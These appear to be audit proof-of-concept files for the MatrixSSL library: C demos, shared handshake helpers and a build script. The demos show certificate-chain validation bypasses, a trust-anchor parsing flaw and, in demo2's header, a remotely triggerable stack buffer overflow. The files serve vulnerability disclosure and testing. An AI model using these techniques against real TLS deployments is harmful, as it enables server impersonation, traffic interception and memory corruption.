            /* the sender finished by sending its last flight */
            return 2;
        }
        if (rc < 0)
        {
            *fatal = 1;
            return rc;
        }
    }
    return moved;
}

/* Returns 1 when both sides report a completed handshake, 0 otherwise */
static int run_handshake(ssl_t *cli, ssl_t *srv)
{
    int cliDone = 0, srvDone = 0, fatal = 0, i, a, b;

    for (i = 0; i < 40 && !fatal; i++)
    {
        a = pump_one(cli, srv, "c->s", &srvDone, &fatal);
        if (a == 2)
        {
            cliDone = 1;
        }
        if (fatal)
        {
            /* let a pending alert flow back for completeness */
            pump_one(srv, cli, "s->c", &cliDone, &fatal);
            break;
        }
        b = pump_one(srv, cli, "s->c", &cliDone, &fatal);
        if (b == 2)
        {
            srvDone = 1;
        }
        if (fatal)
        {
            pump_one(cli, srv, "c->s", &srvDone, &fatal);
            break;
        }
        if (cliDone && srvDone)
        {
            return 1;
        }
        if (a <= 0 && b <= 0)
        {
            break;
        }
    }
    return (cliDone && srvDone && !fatal) ? 1 : 0;
}

__attribute__((unused))
static void print_chain_status(psX509Cert_t *c)
{
    int i = 0;

    for (; c; c = c->next, i++)
    {
        printf("    cert[%d] CN=%s authStatus=%d authFailFlags=0x%x\n", i,
            c->subject.commonName ? c->subject.commonName : "(none)",
            (int) c->authStatus, (unsigned) c->authFailFlags);
    }
}

#endif
