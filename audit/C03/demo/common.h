/* Shared helpers for the C03 audit demos: an in-memory TLS client/server
   pair driven through the public MatrixSSL API. */
#ifndef AUDIT_COMMON_H
#define AUDIT_COMMON_H

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include "matrixssl/matrixsslApi.h"

#ifndef CERTDIR
# define CERTDIR "certs"
#endif

static int g_trace = 0;

/* Move everything one side wants to send to the other side; returns
   1 if something moved, 0 if nothing, <0 if the receiver reported an error
   (*alertOut gets the alert description if the receiver got/produced one) */
static int pump_one(ssl_t *from, ssl_t *to, const char *dir, int *toDone,
                    int *fatal)
{
    unsigned char *out, *in, *pt;
    int32 outLen, inLen, rc;
    uint32 ptLen;
    int moved = 0;

    while ((outLen = matrixSslGetOutdata(from, &out)) > 0)
    {
        int32 off = 0;
        moved = 1;
        while (off < outLen)
        {
            int32 n;
            inLen = matrixSslGetReadbuf(to, &in);
            if (inLen <= 0)
            {
                *fatal = 1;
                return -1;
            }
            n = outLen - off;
            if (n > inLen)
            {
                n = inLen;
            }
            memcpy(in, out + off, n);
            off += n;
            rc = matrixSslReceivedData(to, n, &pt, &ptLen);
            for (;; )
            {
                if (g_trace)
                {
                    printf("  [%s] ReceivedData rc=%d\n", dir, (int) rc);
                }
                if (rc < 0)
                {
                    *fatal = 1;
                    return rc;
                }
                if (rc == MATRIXSSL_HANDSHAKE_COMPLETE)
                {
                    *toDone = 1;
                    break;
                }
                if (rc == MATRIXSSL_RECEIVED_ALERT)
                {
                    if (g_trace)
                    {
                        printf("  [%s] alert level=%d desc=%d\n", dir,
                            pt[0], pt[1]);
                    }
                    if (pt[0] == SSL_ALERT_LEVEL_FATAL)
                    {
                        *fatal = 1;
                        return -1;
                    }
                    rc = matrixSslProcessedData(to, &pt, &ptLen);
                    continue;
                }
                if (rc == MATRIXSSL_APP_DATA ||
                    rc == MATRIXSSL_APP_DATA_COMPRESSED)
                {
                    rc = matrixSslProcessedData(to, &pt, &ptLen);
                    continue;
                }
                break; /* REQUEST_SEND / REQUEST_RECV / SUCCESS */
            }
        }
        rc = matrixSslSentData(from, outLen);
        if (rc == MATRIXSSL_HANDSHAKE_COMPLETE)
        {
            /* the sender finished by sending its last flight */
            return 2;
        }
        if (rc < 0)
        {
            *fatal = 1;
            return rc;
        }
    }
    return moved;
}

/* Returns 1 when both sides report a completed handshake, 0 otherwise */
static int run_handshake(ssl_t *cli, ssl_t *srv)
{
    int cliDone = 0, srvDone = 0, fatal = 0, i, a, b;

    for (i = 0; i < 40 && !fatal; i++)
    {
        a = pump_one(cli, srv, "c->s", &srvDone, &fatal);
        if (a == 2)
        {
            cliDone = 1;
        }
        if (fatal)
        {
            /* let a pending alert flow back for completeness */
            pump_one(srv, cli, "s->c", &cliDone, &fatal);
            break;
        }
        b = pump_one(srv, cli, "s->c", &cliDone, &fatal);
        if (b == 2)
        {
            srvDone = 1;
        }
        if (fatal)
        {
            pump_one(cli, srv, "c->s", &srvDone, &fatal);
            break;
        }
        if (cliDone && srvDone)
        {
            return 1;
        }
        if (a <= 0 && b <= 0)
        {
            break;
        }
    }
    return (cliDone && srvDone && !fatal) ? 1 : 0;
}

__attribute__((unused))
static void print_chain_status(psX509Cert_t *c)
{
    int i = 0;

    for (; c; c = c->next, i++)
    {
        printf("    cert[%d] CN=%s authStatus=%d authFailFlags=0x%x\n", i,
            c->subject.commonName ? c->subject.commonName : "(none)",
            (int) c->authStatus, (unsigned) c->authFailFlags);
    }
}

/* Honest control: client trusting caFile connects (expectedName localhost)
   to a server that presents certFile(+chain)/keyFile.  Returns 1 when the
   handshake completes. */
__attribute__((unused))
static int control_connect(const char *label, const char *caFile,
                           const char *certFile, const char *keyFile,
                           psProtocolVersion_t ver, sslCertCb_t cb)
{
    sslKeys_t *ck, *sk;
    ssl_t *cli = NULL, *srv = NULL;
    sslSessOpts_t co, so;
    psProtocolVersion_t v[1];
    int ok;

    printf("-- control: %s\n", label);
    v[0] = ver;
    if (matrixSslNewKeys(&ck, NULL) < 0 ||
        matrixSslLoadRsaKeys(ck, NULL, NULL, NULL, caFile) < 0 ||
        matrixSslNewKeys(&sk, NULL) < 0 ||
        matrixSslLoadRsaKeys(sk, certFile, keyFile, NULL, NULL) < 0)
    {
        printf("   control key load failed\n");
        return 0;
    }
    memset(&co, 0, sizeof(co));
    memset(&so, 0, sizeof(so));
    matrixSslSessOptsSetClientTlsVersions(&co, v, 1);
    matrixSslSessOptsSetServerTlsVersions(&so, v, 1);
    if (matrixSslNewServerSession(&srv, sk, NULL, &so) < 0 ||
        matrixSslNewClientSession(&cli, ck, NULL, NULL, 0, cb, "localhost",
            NULL, NULL, &co) < 0)
    {
        printf("   control session creation failed\n");
        return 0;
    }
    ok = run_handshake(cli, srv);
    printf("   handshake %s\n", ok ? "completed (as it must)" : "FAILED");
    matrixSslDeleteSession(cli);
    matrixSslDeleteSession(srv);
    matrixSslDeleteKeys(ck);
    matrixSslDeleteKeys(sk);
    return ok;
}

/* Honest control at the validator API: must return 0 and all PASS */
__attribute__((unused))
static int control_validate(const char *label, const char *chainFile,
                            const char *caFile)
{
    psX509Cert_t *chain = NULL, *trusted = NULL, *found = NULL, *c;
    int32 rc;
    int ok = 1;

    printf("-- control: %s\n", label);
    if (psX509ParseCertFile(NULL, chainFile, &chain, 0) < 0 ||
        psX509ParseCertFile(NULL, caFile, &trusted, 0) < 0)
    {
        printf("   control parse failed\n");
        return 0;
    }
    rc = matrixValidateCerts(NULL, chain, trusted, "localhost", &found, NULL,
            NULL);
    for (c = chain; c; c = c->next)
    {
        if (c->authStatus != PS_CERT_AUTH_PASS)
        {
            ok = 0;
        }
    }
    ok = ok && rc == PS_SUCCESS;
    printf("   matrixValidateCerts rc=%d -> %s\n", (int) rc,
        ok ? "accepted (as it must)" : "REJECTED");
    psX509FreeCert(chain);
    psX509FreeCert(trusted);
    return ok;
}

#endif
