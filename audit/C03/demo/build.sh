#!/bin/sh
# Builds all audit demos against the static libraries of the worktree
# (run `make -j8` at the worktree top level first).
set -e
HERE=$(cd "$(dirname "$0")" && pwd)
TOP=$(cd "$HERE/../.." && pwd)
CFLAGS="-O1 -g -Wall -I$TOP -I$TOP/core/config -I$TOP/core/include -I$TOP/core/osdep/include -I$TOP/core/include/sfzcl -DUSE_CL_PKCS -DUSE_CL_CERTLIB -DCERTDIR=\"$HERE/certs\""
LIBS="$TOP/matrixssl/libssl_s.a $TOP/crypto/libcrypt_s.a $TOP/core/libcore_s.a -lpthread"
for n in 1 2 3 4; do
    if [ -f "$HERE/demo$n.c" ]; then
        cc $CFLAGS -o "$HERE/demo$n" "$HERE/demo$n.c" $LIBS
        echo "built demo$n"
    fi
done
