/*
   demo1: a chain that is signed only by an attacker-made "CA" is accepted.

   Trust store of the victim: certs/d1_root.pem (Good Root CA) only.
   Attacker chain: d1_leaf.pem (CN=localhost) <- d1_evil.pem (self-made
   "Evil CA", basicConstraints CA:TRUE, NO keyUsage extension, notBefore
   1990-01-01, not signed by anything the victim trusts).

   psX509AuthenticateCert(leaf, evil): CA flag ok, DN ok, signature ok, then
   the keyCertSign test: keyUsageFlags == 0 -> issuedBefore(RFC_3280, evil)
   returns -1 for a notBefore year < 1996, and the function does
   "return PS_PARSE_FAIL" WITHOUT writing sc->authStatus.
   matrixValidateCertsExt returns that code at once: the Evil CA is never
   compared with the trust anchors, and every authStatus is still 0.
   - TLS 1.3 (tls13Authenticate.c: matrixSslValidatePeerCerts) throws the
     return code away and looks only at authStatus -> chain accepted.
   - TLS <= 1.2 (hsDecode.c) with a certificate callback passes
     alert == SSL_ALERT_NONE to the callback -> a callback that follows the
     documented contract ("return the alert you were given") accepts.
*/
#include "common.h"
#include "matrixssl/matrixssllib.h"

static int g_cbCalls, g_cbAlert;

/* The documented minimal callback: keep the library's verdict */
static int32_t certCb(ssl_t *ssl, psX509Cert_t *cert, int32_t alert)
{
    g_cbCalls++;
    g_cbAlert = alert;
    printf("    cert callback: alert=%d\n", (int) alert);
    print_chain_status(cert);
    return alert;
}

static sslKeys_t *attacker_server_keys(const char *leaf, const char *key,
                                       const char *ca)
{
    sslKeys_t *k;
    psX509Cert_t *extra = NULL;

    if (matrixSslNewKeys(&k, NULL) < 0)
    {
        exit(2);
    }
    if (matrixSslLoadRsaKeys(k, leaf, key, NULL, NULL) < 0)
    {
        printf("server key load failed\n");
        exit(2);
    }
    /* The attacker's server is free to send whatever chain it likes:
       append its home-made CA certificate to the Certificate message. */
    if (psX509ParseCertFile(NULL, ca, &extra, CERT_STORE_UNPARSED_BUFFER) < 0)
    {
        printf("cannot parse %s\n", ca);
        exit(2);
    }
    k->identity->cert->next = extra;
    return k;
}

static int g_badOpts;

static int try_connect(const char *label, psProtocolVersion_t ver,
                       sslCertCb_t cb, const char *caOfAttacker)
{
    sslKeys_t *ck, *sk;
    ssl_t *cli = NULL, *srv = NULL;
    sslSessOpts_t co, so;
    psProtocolVersion_t v[1];
    int ok;

    printf("-- %s\n", label);
    v[0] = ver;
    if (matrixSslNewKeys(&ck, NULL) < 0 ||
        matrixSslLoadRsaKeys(ck, NULL, NULL, NULL, CERTDIR "/d1_root.pem") < 0)
    {
        printf("client key load failed\n");
        exit(2);
    }
    sk = attacker_server_keys(CERTDIR "/d1_leaf.pem", CERTDIR "/d1_leaf.key",
            caOfAttacker);

    memset(&co, 0, sizeof(co));
    memset(&so, 0, sizeof(so));
    matrixSslSessOptsSetClientTlsVersions(&co, v, 1);
    matrixSslSessOptsSetServerTlsVersions(&so, v, 1);
    if (g_badOpts)
    {
        /* an option pair that matrixValidateCertsExt answers with
           PS_ARG_FAIL before looking at any certificate */
        co.validateCertsOpts.nameType = NAME_TYPE_SAN_DNS;
        co.validateCertsOpts.mFlags = VCERTS_MFLAG_ALWAYS_CHECK_SUBJECT_CN;
    }

    g_cbCalls = 0;
    g_cbAlert = -1;
    if (matrixSslNewServerSession(&srv, sk, NULL, &so) < 0)
    {
        printf("server session failed\n");
        exit(2);
    }
    if (matrixSslNewClientSession(&cli, ck, NULL, NULL, 0, cb, "localhost",
            NULL, NULL, &co) < 0)
    {
        printf("client session failed\n");
        exit(2);
    }
    ok = run_handshake(cli, srv);
    printf("   handshake %s\n", ok ? "COMPLETED" : "failed");
    matrixSslDeleteSession(cli);
    matrixSslDeleteSession(srv);
    matrixSslDeleteKeys(ck);
    matrixSslDeleteKeys(sk);
    return ok;
}

int main(int argc, char **argv)
{
    psX509Cert_t *chain = NULL, *trusted = NULL, *found = NULL, *c;
    int32 rc;
    int violations = 0, allZero = 1, controlsFailed = 0;
    /* "a": validator part only (the verdict psX509AuthenticateCert leaves
       behind + its TLS consequences), "b": TLS-layer part only (what the
       handshake code does with a failure code that carries no authStatus),
       no argument: everything */
    int partA = (argc < 2 || argv[1][0] == 'a');
    int partB = (argc < 2 || argv[1][0] == 'b');

    g_trace = (getenv("TRACE") != NULL);
    if (matrixSslOpen() < 0)
    {
        return 2;
    }

    /* 1. The validator itself */
    if (psX509ParseCertFile(NULL, CERTDIR "/d1_chain.pem", &chain, 0) < 0 ||
        psX509ParseCertFile(NULL, CERTDIR "/d1_root.pem", &trusted, 0) < 0)
    {
        printf("cannot parse demo certificates\n");
        return 2;
    }
    rc = matrixValidateCerts(NULL, chain, trusted, "localhost", &found, NULL,
            NULL);
    printf("-- matrixValidateCerts([localhost <- Evil CA], trust={Good Root CA})"
        " rc=%d\n", (int) rc);
    print_chain_status(chain);
    for (c = chain; c; c = c->next)
    {
        if (c->authStatus != 0)
        {
            allZero = 0;
        }
    }
    if (rc >= 0)
    {
        printf("VIOLATION: matrixValidateCerts reported success for a chain "
            "that ends in an untrusted CA\n");
        violations++;
    }
    else if (allZero && partA)
    {
        printf("VIOLATION: validator returned the failure code %d but no "
            "certificate carries a failure verdict (authStatus is 0 "
            "everywhere; the Evil CA was never matched against a trust "
            "anchor)\n", (int) rc);
        violations++;
    }

    /* 2. Controls: same attacker, but the Evil CA has a normal notBefore */
    if (try_connect("control: TLS 1.3, Evil CA with notBefore 2020 "
            "(expected: rejected)", v_tls_1_3, NULL,
            CERTDIR "/d1_evil2020.pem"))
    {
        printf("control unexpectedly completed (leaf is not signed by this "
            "CA, so this would be a different bug)\n");
    }

    /* 3. TLS 1.3, no callback at all */
    if (try_connect("TLS 1.3 client, trust={Good Root CA}, no cert callback, "
            "server presents [localhost <- Evil CA(notBefore 1990, no keyUsage)]",
            v_tls_1_3, NULL, CERTDIR "/d1_evil.pem"))
    {
        printf("VIOLATION: TLS 1.3 client completed the handshake with a "
            "server whose chain ends in an untrusted, attacker-made CA\n");
        violations++;
    }

    /* 4. TLS 1.2 with the pass-through callback */
    if (try_connect("TLS 1.2 client, same chain, pass-through cert callback",
            v_tls_1_2, certCb, CERTDIR "/d1_evil.pem"))
    {
        printf("VIOLATION: TLS 1.2 client: internal validation failed but "
            "the callback was called %d time(s) with alert=%d (no error) and "
            "the handshake completed\n", g_cbCalls, g_cbAlert);
        violations++;
    }

    /* 5. TLS 1.2 without callback: the one configuration that is safe */
    if (try_connect("TLS 1.2 client, same chain, no callback (expected: "
            "rejected)", v_tls_1_2, NULL, CERTDIR "/d1_evil.pem"))
    {
        printf("VIOLATION: TLS 1.2 client without callback completed too\n");
        violations++;
    }

    /* 6. Same root cause in TLS 1.3 (return code of matrixValidateCertsExt
          ignored): an option combination the validator refuses with
          PS_ARG_FAIL makes every chain "valid".  The Evil CA here is the
          ordinary 2020 one that case 2 rejected. */
    g_badOpts = 1;
    if (partB && try_connect("TLS 1.3 client with nameType=NAME_TYPE_SAN_DNS + "
            "VCERTS_MFLAG_ALWAYS_CHECK_SUBJECT_CN (validator returns "
            "PS_ARG_FAIL), chain [localhost <- Evil CA 2020]", v_tls_1_3, NULL,
            CERTDIR "/d1_evil2020.pem"))
    {
        printf("VIOLATION: TLS 1.3 client: validator refused its options "
            "(PS_ARG_FAIL) and the untrusted chain was accepted\n");
        violations++;
    }
    g_badOpts = 0;

    psX509FreeCert(chain);
    psX509FreeCert(trusted);

    /* Honest controls: [localhost <- Good Intermediate CA] under Good Root */
    controlsFailed += !control_validate("validator, honest 2-cert chain",
            CERTDIR "/ok_chain.pem", CERTDIR "/d1_root.pem");
    controlsFailed += !control_connect("TLS 1.3, honest chain, no callback",
            CERTDIR "/d1_root.pem", CERTDIR "/ok_chain.pem",
            CERTDIR "/ok_leaf.key", v_tls_1_3, NULL);
    controlsFailed += !control_connect("TLS 1.2, honest chain, pass-through "
            "callback", CERTDIR "/d1_root.pem", CERTDIR "/ok_chain.pem",
            CERTDIR "/ok_leaf.key", v_tls_1_2, certCb);
    controlsFailed += !control_connect("TLS 1.2, honest chain, no callback",
            CERTDIR "/d1_root.pem", CERTDIR "/ok_chain.pem",
            CERTDIR "/ok_leaf.key", v_tls_1_2, NULL);
    matrixSslClose();
    if (controlsFailed)
    {
        printf("CONTROL FAILED: an honest chain was refused\n");
        return 3;
    }
    if (violations)
    {
        return 1;
    }
    printf("OK: no violation\n");
    return 0;
}
