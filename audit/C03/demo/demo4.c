/*
   demo4: a CA certificate that the parser REJECTS because of a critical
   extension it cannot process still becomes a trust anchor.

   matrixSslLoadRsaKeys/LoadKeys -> matrixSslAddTrustAnchors
   (matrixssl/matrixsslKeys.c) always parses the CA file with
   CERT_ALLOW_BUNDLE_PARTIAL_PARSE.  psX509ParseCert then keeps the
   psX509Cert_t of a certificate whose parse FAILED in the list
   (parseStatus != PS_X509_PARSE_SUCCESS) and psX509ParseCertData counts it
   as "parsed".  The structure is filled up to the point of failure: subject
   DN hash, public key, and every extension in front of the offending one
   (basicConstraints CA:TRUE, keyUsage keyCertSign, subjectKeyIdentifier).
   psX509AuthenticateCert / matrixValidateCertsExt never look at parseStatus
   (only the CertificateRequest / trusted_ca_keys writers do), so the rejected
   certificate chains and verifies like any other anchor and its critical
   extension is silently ignored.

   certs/d4_nc_ca.pem  : "Corp Constrained CA", extensions in this order:
                         basicConstraints(critical, CA:TRUE),
                         keyUsage(critical, keyCertSign|cRLSign), SKI,
                         nameConstraints(critical, permitted DNS:.corp.example)
                         -> x509.c: "ERROR: critical nameConstraints
                            unsupported", PS_PARSE_FAIL
   certs/d4_unk_ca.pem : same CA key and name, last extension is an unknown
                         private OID marked critical -> PS_PARSE_FAIL
   certs/d4_leaf.pem   : CN=localhost, SAN DNS:localhost, issued by that CA
                         (outside the permitted subtree; OpenSSL says
                         "permitted subtree violation")
*/
#include "common.h"
#include "matrixssl/matrixssllib.h"

static int check_anchor(const char *caFile, const char *what)
{
    sslKeys_t *k;
    psX509Cert_t *leaf = NULL, *found = NULL, *c;
    int32 rc;
    int n = 0, bad = 0, violated = 0;

    printf("-- CA file %s (%s)\n", caFile, what);
    if (matrixSslNewKeys(&k, NULL) < 0)
    {
        exit(2);
    }
    rc = matrixSslLoadRsaKeys(k, NULL, NULL, NULL, caFile);
    printf("   matrixSslLoadRsaKeys(CAfile) rc=%d\n", (int) rc);
    if (rc < 0)
    {
        printf("   CA file refused: safe\n");
        matrixSslDeleteKeys(k);
        return 0;
    }
    for (c = k->CAcerts; c; c = c->next, n++)
    {
        printf("   CAcerts[%d]: parseStatus=%d (%s) CN=%s cA=%d keyUsage=0x%x\n",
            n, (int) c->parseStatus,
            c->parseStatus == PS_X509_PARSE_SUCCESS ? "parsed" : "REJECTED",
            c->subject.commonName ? c->subject.commonName : "(none)",
            (int) c->extensions.bc.cA, (unsigned) c->extensions.keyUsageFlags);
        if (c->parseStatus != PS_X509_PARSE_SUCCESS)
        {
            bad++;
        }
    }
    if (psX509ParseCertFile(NULL, CERTDIR "/d4_leaf.pem", &leaf, 0) < 0)
    {
        printf("cannot parse leaf\n");
        exit(2);
    }
    rc = matrixValidateCerts(NULL, leaf, k->CAcerts, "localhost", &found,
            NULL, NULL);
    printf("   matrixValidateCerts(localhost, CAcerts) rc=%d leaf authStatus=%d"
        " foundIssuer=%s (parseStatus=%d)\n", (int) rc, (int) leaf->authStatus,
        found && found->subject.commonName ? found->subject.commonName : "-",
        found ? (int) found->parseStatus : -1);
    if (rc == PS_SUCCESS && leaf->authStatus == PS_CERT_AUTH_PASS && found &&
        found->parseStatus != PS_X509_PARSE_SUCCESS)
    {
        printf("VIOLATION: chain validated against a trust anchor whose "
            "parse was rejected (%s); its critical extension was ignored\n",
            what);
        violated = 1;
    }
    psX509FreeCert(leaf);
    matrixSslDeleteKeys(k);
    (void) bad;
    return violated;
}

static int handshake(const char *caFile, psProtocolVersion_t ver,
                     const char *label)
{
    sslKeys_t *ck, *sk;
    ssl_t *cli = NULL, *srv = NULL;
    sslSessOpts_t co, so;
    psProtocolVersion_t v[1];
    int ok;

    printf("-- %s\n", label);
    v[0] = ver;
    if (matrixSslNewKeys(&ck, NULL) < 0 ||
        matrixSslLoadRsaKeys(ck, NULL, NULL, NULL, caFile) < 0)
    {
        printf("   client CA load refused: safe\n");
        return 0;
    }
    if (matrixSslNewKeys(&sk, NULL) < 0 ||
        matrixSslLoadRsaKeys(sk, CERTDIR "/d4_leaf.pem", CERTDIR "/d4_leaf.key",
            NULL, NULL) < 0)
    {
        printf("server key load failed\n");
        exit(2);
    }
    memset(&co, 0, sizeof(co));
    memset(&so, 0, sizeof(so));
    matrixSslSessOptsSetClientTlsVersions(&co, v, 1);
    matrixSslSessOptsSetServerTlsVersions(&so, v, 1);
    if (matrixSslNewServerSession(&srv, sk, NULL, &so) < 0 ||
        matrixSslNewClientSession(&cli, ck, NULL, NULL, 0, NULL, "localhost",
            NULL, NULL, &co) < 0)
    {
        printf("   session creation failed\n");
        return 0;
    }
    ok = run_handshake(cli, srv);
    printf("   handshake %s\n", ok ? "COMPLETED" : "failed");
    matrixSslDeleteSession(cli);
    matrixSslDeleteSession(srv);
    matrixSslDeleteKeys(ck);
    matrixSslDeleteKeys(sk);
    return ok;
}

int main(void)
{
    psX509Cert_t *t = NULL;
    int32 rc;
    int v = 0, controlsFailed = 0;

    g_trace = (getenv("TRACE") != NULL);
    if (matrixSslOpen() < 0)
    {
        return 2;
    }
    rc = psX509ParseCertFile(NULL, CERTDIR "/d4_nc_ca.pem", &t, 0);
    printf("-- strict parse of the constrained CA: rc=%d (the library does "
        "not support this certificate)\n", (int) rc);
    psX509FreeCert(t);

    v += check_anchor(CERTDIR "/d4_bundle.pem",
            "Good Root CA + CA with critical nameConstraints");
    v += check_anchor(CERTDIR "/d4_nc_ca.pem",
            "only the CA with critical nameConstraints");
    v += check_anchor(CERTDIR "/d4_unk_ca.pem",
            "only a CA with an unknown critical extension");
    if (handshake(CERTDIR "/d4_bundle.pem", v_tls_1_2,
            "TLS 1.2 client, CA bundle = Good Root CA + constrained CA, server "
            "localhost issued by the constrained CA"))
    {
        printf("VIOLATION: TLS 1.2 handshake completed on the strength of a "
            "rejected trust anchor\n");
        v++;
    }
    if (handshake(CERTDIR "/d4_unk_ca.pem", v_tls_1_3,
            "TLS 1.3 client, CA file = CA with unknown critical extension"))
    {
        printf("VIOLATION: TLS 1.3 handshake completed on the strength of a "
            "rejected trust anchor\n");
        v++;
    }
    /* The partial-bundle feature itself must keep working: the good root in
       the same bundle still authenticates honest chains */
    controlsFailed += !control_connect("TLS 1.2, CA bundle = Good Root CA + "
            "rejected CA, honest chain under Good Root CA",
            CERTDIR "/d4_bundle.pem", CERTDIR "/ok_chain.pem",
            CERTDIR "/ok_leaf.key", v_tls_1_2, NULL);
    controlsFailed += !control_connect("TLS 1.3, same", CERTDIR "/d4_bundle.pem",
            CERTDIR "/ok_chain.pem", CERTDIR "/ok_leaf.key", v_tls_1_3, NULL);
    matrixSslClose();
    if (controlsFailed)
    {
        printf("CONTROL FAILED: an honest chain was refused\n");
        return 3;
    }
    if (v)
    {
        return 1;
    }
    printf("OK: no violation\n");
    return 0;
}
