/*
   demo3: with an EMPTY trust-anchor set the TLS 1.3 path accepts any
   self-signed chain; the TLS <= 1.2 path rejects it (unknown_ca).

   matrixValidateCertsExt(issuerCerts == NULL) only performs the
   "is the parent-most certificate self-signed" test and returns success.
   hsDecode.c (TLS <= 1.2) knows this and turns it into unknown_ca
   ("ssl->keys == NULL || ssl->keys->CAcerts == NULL").  Its TLS 1.3 sibling
   (tls13Authenticate.c: matrixSslValidatePeerCerts/psCheckValidationResult)
   has no such test, and haveKeyMaterial() (cipherSuite.c) returns success for
   CS_TLS13 suites without asking for CA certificates, so the session is
   negotiated and the peer is "authenticated".

   State: a client whose key set has no CA certificates (for instance a key
   set that carries only a TLS 1.3 PSK, only a client identity, or whose CA
   file was never loaded), no certificate callback, expectedName "localhost".
   Peer: a server with a self-made self-signed certificate CN=localhost.
   (A TLS 1.3 server that requests client certificates without a CA list
   fails earlier with internal_error while writing CertificateRequest, so
   only the client side is exposed.)
*/
#include "common.h"
#include "matrixssl/matrixssllib.h"

static int client_without_ca(const char *label, psProtocolVersion_t ver,
                             int withIdentity)
{
    sslKeys_t *ck, *sk;
    ssl_t *cli = NULL, *srv = NULL;
    sslSessOpts_t co, so;
    psProtocolVersion_t v[1];
    int32 rc;
    int ok;

    printf("-- %s\n", label);
    v[0] = ver;
    if (matrixSslNewKeys(&ck, NULL) < 0)   /* no trust anchors are loaded */
    {
        exit(2);
    }
    if (withIdentity &&
        matrixSslLoadRsaKeys(ck, CERTDIR "/d3_server.pem",
            CERTDIR "/d3_server.key", NULL, NULL) < 0)
    {
        printf("client identity load failed\n");
        exit(2);
    }
    if (matrixSslNewKeys(&sk, NULL) < 0 ||
        matrixSslLoadRsaKeys(sk, CERTDIR "/d3_selfsigned.pem",
            CERTDIR "/d3_selfsigned.key", NULL, NULL) < 0)
    {
        printf("server key load failed\n");
        exit(2);
    }
    memset(&co, 0, sizeof(co));
    memset(&so, 0, sizeof(so));
    if (ver != 0)   /* 0: leave the library's default version set */
    {
        matrixSslSessOptsSetClientTlsVersions(&co, v, 1);
        matrixSslSessOptsSetServerTlsVersions(&so, v, 1);
    }
    if (matrixSslNewServerSession(&srv, sk, NULL, &so) < 0)
    {
        printf("server session failed\n");
        exit(2);
    }
    rc = matrixSslNewClientSession(&cli, ck, NULL, NULL, 0, NULL, "localhost",
            NULL, NULL, &co);
    if (rc < 0)
    {
        printf("   client session could not be created (rc=%d): safe\n",
            (int) rc);
        matrixSslDeleteSession(srv);
        matrixSslDeleteKeys(ck);
        matrixSslDeleteKeys(sk);
        return 0;
    }
    ok = run_handshake(cli, srv);
    printf("   handshake %s\n", ok ? "COMPLETED" : "failed");
    matrixSslDeleteSession(cli);
    matrixSslDeleteSession(srv);
    matrixSslDeleteKeys(ck);
    matrixSslDeleteKeys(sk);
    return ok;
}

int main(void)
{
    int v = 0, controlsFailed = 0;

    g_trace = (getenv("TRACE") != NULL);
    if (matrixSslOpen() < 0)
    {
        return 2;
    }
    if (client_without_ca("TLS 1.2 client, empty trust store, server with a "
            "self-signed certificate (expected: rejected)", v_tls_1_2, 0))
    {
        printf("VIOLATION: TLS 1.2 client with no trust anchors accepted a "
            "self-signed server\n");
        v++;
    }
    if (client_without_ca("TLS 1.3 client, empty trust store, no callback, "
            "server with a self-signed certificate", v_tls_1_3, 0))
    {
        printf("VIOLATION: TLS 1.3 client with NO trust anchors completed "
            "the handshake with a self-signed server certificate\n");
        v++;
    }
    if (client_without_ca("TLS 1.3 client whose key set holds only its own "
            "identity (cert+key), no CA file, no callback", v_tls_1_3, 1))
    {
        printf("VIOLATION: TLS 1.3 client (identity only, NO trust anchors) "
            "completed the handshake with a self-signed server certificate\n");
        v++;
    }
    if (client_without_ca("client and server with the library's DEFAULT "
            "protocol versions, client has an empty trust store", 0, 0))
    {
        printf("VIOLATION: default-version client with NO trust anchors "
            "completed the handshake with a self-signed server certificate\n");
        v++;
    }
    controlsFailed += !control_connect("TLS 1.3 client WITH the right trust "
            "anchor, honest chain", CERTDIR "/d1_root.pem",
            CERTDIR "/ok_chain.pem", CERTDIR "/ok_leaf.key", v_tls_1_3, NULL);
    if (control_connect("TLS 1.3 client with a trust anchor, self-signed "
            "server (must be refused; the line below should say FAILED)",
            CERTDIR "/d1_root.pem", CERTDIR "/d3_selfsigned.pem",
            CERTDIR "/d3_selfsigned.key", v_tls_1_3, NULL))
    {
        printf("VIOLATION: self-signed server accepted although a different "
            "trust anchor is loaded\n");
        v++;
    }
    matrixSslClose();
    if (controlsFailed)
    {
        printf("CONTROL FAILED: an honest chain was refused\n");
        return 3;
    }
    if (v)
    {
        return 1;
    }
    printf("OK: no violation\n");
    return 0;
}
