/*
   demo2: signature check dispatches on the ISSUER KEY TYPE, while the message
   to verify is chosen by the SUBJECT's signatureAlgorithm.

   psX509AuthenticateCert (crypto/keyformat/x509.c): when
   sc->sigAlgorithm == OID_ED25519_KEY_ALG it passes the whole buffered
   TBSCertificate (tbs = sc->tbsCertStart, tbsLen = sc->tbsCertLen, hundreds
   of bytes) with opts.msgIsDigestInfo = PS_FALSE to psVerifySig.
   psVerifySig (crypto/pubkey/pubkey_verify.c) switches on key->type; for an
   RSA issuer key it runs
        unsigned char out[SHA512_HASH_SIZE];          (64 bytes, on the stack)
        psRsaDecryptPub(pool, rsa, sigCopy, sigLen, out, msgInLen, NULL);
   i.e. it lets the RSA PKCS#1 un-padding write up to msgInLen (= tbsLen)
   bytes of attacker-chosen plaintext into the 64-byte buffer.

   Nothing checks that an "Ed25519" signature is 64 bytes or that the issuer
   key is an Ed25519 key.  The issuer here is the peer-supplied next
   certificate of the chain, so the attacker owns the RSA private key and can
   make the "signature" decrypt to  00 01 FF.. 00 || TBSCertificate.

   Result: (a) stack buffer overflow with attacker-controlled bytes while
   validating a chain, BEFORE any trust anchor is consulted (remote,
   unauthenticated: a TLS server attacking a client, or a client attacking a
   server that requests client certificates); (b) logically, a certificate
   labelled Ed25519 "verifies" under an RSA key with a raw (unhashed) PKCS#1
   block, i.e. with an algorithm that does not exist.

   certs/d2_leaf.pem : CN=localhost, P-256 key, signatureAlgorithm id-Ed25519
                       (inner and outer), signatureValue = 512 bytes =
                       RSA-4096 private-key operation on
                       00 01 FF..FF 00 || TBSCertificate(222 bytes)
   certs/d2_evilca.pem : self-signed "Evil CA2", RSA-4096, CA:TRUE
   Victim trust store : certs/d1_root.pem (unrelated Good Root CA)
*/
#include <unistd.h>
#include <signal.h>
#include <sys/types.h>
#include <sys/wait.h>
#include "common.h"
#include "matrixssl/matrixssllib.h"

static int child_validate(void)
{
    psX509Cert_t *chain = NULL, *trusted = NULL, *found = NULL;
    int32 rc;

